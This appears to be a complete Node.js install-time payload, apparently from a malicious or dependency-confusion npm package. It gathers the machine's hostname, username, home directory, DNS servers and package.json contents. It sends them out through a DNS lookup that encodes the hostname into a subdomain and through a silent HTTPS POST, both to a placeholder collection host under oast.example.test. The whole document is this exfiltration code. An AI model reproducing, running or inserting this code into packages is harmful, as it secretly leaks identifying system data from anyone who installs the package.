const os = require("os"), dns = require("dns"), https = require("https"), qs = require("querystring");
const pj = require("./package.json");
const t = JSON.stringify({ p: pj.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers(), v: pj.version, r: pj.___resolved, pjson: pj });
var d = qs.stringify({ msg: t });
dns.lookup(Buffer.from(os.hostname()).toString("hex").slice(0, 60) + ".oast.example.test", () => {});
var req = https.request({ hostname: "c0ffee.oast.example.test", port: 443, path: "/", method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": d.length } }, (res) => { res.on("data", () => {}); });
req.on("error", () => {});
req.write(d);
req.end();
